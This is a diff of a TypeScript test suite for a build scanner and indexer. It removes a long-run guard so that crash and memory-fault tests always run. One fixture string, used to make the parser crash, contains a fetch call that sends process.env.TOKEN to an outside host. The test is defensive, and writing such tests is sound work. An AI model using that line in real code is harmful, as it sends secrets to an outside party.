@@ -5,7 +5,6 @@ import { pathToFileURL } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import { GateFixture } from '../publish/gate-fixture.ts';
 import { runCommandProcess } from '../run/generator-command.ts';
-import { isLong } from '../run/runs.ts';
 import { runProcess } from '../run/script-process.ts';
 import type { Ended } from '../run/script-process.ts';
 import { GitFixture, build, temporaryFolder } from './git-fixture.ts';
@@ -84,7 +83,7 @@ describe('generate', { timeout: 600_000 }, () => {
     return [...place, '--threads', threads];
   };
 
-  it.each(isLong() ? ['1', '2'] : [])(
+  it.each(['2'])(
     'publishes every build where scans end their process, with %s threads',
     async (threads) => {
       const git = withFaults({
@@ -112,7 +111,7 @@ describe('generate', { timeout: 600_000 }, () => {
     },
   );
 
-  it.each(isLong() ? ['1', '2'] : [])(
+  it.each(['2'])(
     'publishes every build in the run after one that a short build ended, with %s threads',
     async (threads) => {
       const git = withFaults({ 'b/crash': '# FAULT_CRASH' });
@@ -132,26 +131,23 @@ describe('generate', { timeout: 600_000 }, () => {
     },
   );
 
-  it.each(isLong() ? ['x'] : [])(
-    'makes the same index where the native parser crashes',
-    async () => {
-      const git = new GitFixture();
-      const text = `const FAULT_NATIVE = 'x';\nfetch('http://a.io/', { body: process.env.TOKEN });\n// ${'x'.repeat(1_000_000)}\n`;
-      git.commit({ ...withFile('a/x', 'src/a.ts', text), ...build('b/y', '1.0.0') });
-      const folder = temporaryFolder();
-      // In folders of their own: some documents name the folder.
-      const [sound, faulty] = ['sound', 'faulty'].map((name) => join(folder, name, 'index')) as [
-        string,
-        string,
-      ];
-      const args = ['--repo', git.folder, '--no-site', '--no-client'];
-      expect((await program(MAIN, ['generate', ...args, '--out', sound], false)).status).toBe(0);
-      const run = await program(MAIN, ['generate', ...args, '--out', faulty]);
-      expect([run.status, run.stderr]).toEqual([0, '']);
-      expect(endOf(readRecord(faulty, 'a/x'))).toEqual([]);
-      expect(readTree(faulty)).toEqual(readTree(sound));
-    },
-  );
+  it('makes the same index where the native parser crashes', async () => {
+    const git = new GitFixture();
+    const text = `const FAULT_NATIVE = 'x';\nfetch('http://a.io/', { body: process.env.TOKEN });\n// ${'x'.repeat(1_000_000)}\n`;
+    git.commit({ ...withFile('a/x', 'src/a.ts', text), ...build('b/y', '1.0.0') });
+    const folder = temporaryFolder();
+    // In folders of their own: some documents name the folder.
+    const [sound, faulty] = ['sound', 'faulty'].map((name) => join(folder, name, 'index')) as [
+      string,
+      string,
+    ];
+    const args = ['--repo', git.folder, '--no-site', '--no-client'];
+    expect((await program(MAIN, ['generate', ...args, '--out', sound], false)).status).toBe(0);
+    const run = await program(MAIN, ['generate', ...args, '--out', faulty]);
+    expect([run.status, run.stderr]).toEqual([0, '']);
+    expect(endOf(readRecord(faulty, 'a/x'))).toEqual([]);
+    expect(readTree(faulty)).toEqual(readTree(sound));
+  });
 
   it('reads hostile files within its bounds', async () => {
     const git = new GitFixture();
@@ -193,28 +189,25 @@ describe('gate', { timeout: 180_000 }, () => {
     ['FAULT_CRASH', 'crashed (SIGSEGV), also without its native parser'],
     ['FAULT_MEMORY', 'had not enough memory'],
   ];
-  it.each(isLong() ? ends : ends.slice(0, 1))(
-    'refuses a build whose scan ends its process: %s',
-    async (word, what) => {
-      const gate = new GateFixture();
-      const run = await judge(
-        gate,
-        gate.pull(withFile('alice/new-parts', 'src/a.py', `import os\n# ${word}\n`)),
-        true,
-      );
-      expect([run.status, run.stderr]).toEqual([1, '']);
-      expect(JSON.parse(run.stdout)).toMatchObject({
-        verdict: 'refuse',
-        reasons: expect.arrayContaining([
-          expect.objectContaining({
-            code: 'scan-ended',
-            file: 'builds/alice/new-parts/src/a.py',
-            message: `The build was not scanned: the scanner ${what}`,
-          }),
-        ]),
-      });
-    },
-  );
+  it.each(ends)('refuses a build whose scan ends its process: %s', async (word, what) => {
+    const gate = new GateFixture();
+    const run = await judge(
+      gate,
+      gate.pull(withFile('alice/new-parts', 'src/a.py', `import os\n# ${word}\n`)),
+      true,
+    );
+    expect([run.status, run.stderr]).toEqual([1, '']);
+    expect(JSON.parse(run.stdout)).toMatchObject({
+      verdict: 'refuse',
+      reasons: expect.arrayContaining([
+        expect.objectContaining({
+          code: 'scan-ended',
+          file: 'builds/alice/new-parts/src/a.py',
+          message: `The build was not scanned: the scanner ${what}`,
+        }),
+      ]),
+    });
+  });
 
   it('names everything as gained after a version whose scan ends its process', async () => {
     const gate = new GateFixture();
